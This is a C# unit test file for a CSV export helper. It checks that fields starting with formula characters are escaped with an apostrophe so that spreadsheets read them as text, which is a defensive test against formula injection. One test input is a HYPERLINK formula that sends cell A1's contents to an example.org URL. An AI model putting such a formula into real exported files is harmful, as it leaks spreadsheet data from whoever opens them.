using System.Text;
using CircuitGrid.Client.Commands;

namespace CircuitGrid.Client.Tests.Commands;

/// <summary>Lines of CSV, read back as RFC 4180 says and as a spreadsheet takes them.</summary>
public sealed class CsvRowTests
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1")]
    [InlineData("-1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    [InlineData("\n=1")]
    [InlineData("=HYPERLINK(\"http://example.org/?\"&A1,\"click\")")]
    [InlineData("-")]
    public void Of_TextThatIsAFormula_IsTextToASpreadsheet(string text)
    {
        var fields = Read(CsvRow.Of("name", text, 1));
        Assert.Equal(["name", "'" + text, "1"], fields);
    }

    [Theory]
    [InlineData("name")]
    [InlineData("")]
    [InlineData("a=1")]
    [InlineData(" =1")]
    [InlineData("'=1")]
    [InlineData("a,\"b\"\r\nc")]
    [InlineData("a0.h1<q>")]
    [InlineData("größer 😀")]
    public void Of_OtherText_IsItself(string text) => Assert.Equal(["x", text], Read(CsvRow.Of("x", text)));

    [Fact]
    public void Of_Numbers_KeepTheirSigns() => Assert.Equal(
        "-1,-0.5,-inf,inf,,-1E-10,true,-9223372036854775808,",
        CsvRow.Of(-1, -0.5, double.NegativeInfinity, double.PositiveInfinity, double.NaN, -1e-10, true, long.MinValue, null));

    /// <summary>Fields of one record.</summary>
    private static List<string> Read(string record)
    {
        var fields = new List<string>();
        for (var at = 0; ; at++)
        {
            var field = new StringBuilder();
            if (at < record.Length && record[at] == '"')
            {
                for (at++; record[at] != '"' || (at + 1 < record.Length && record[at + 1] == '"'); at++)
                {
                    at += record[at] == '"' ? 1 : 0;
                    field.Append(record[at]);
                }

                at++;
            }
            else
            {
                for (; at < record.Length && record[at] != ','; at++)
                {
                    Assert.DoesNotContain(record[at], "\"\r\n");
                    field.Append(record[at]);
                }
            }

            fields.Add(field.ToString());
            if (at == record.Length)
            {
                return fields;
            }

            Assert.Equal(',', record[at]);
        }
    }
}
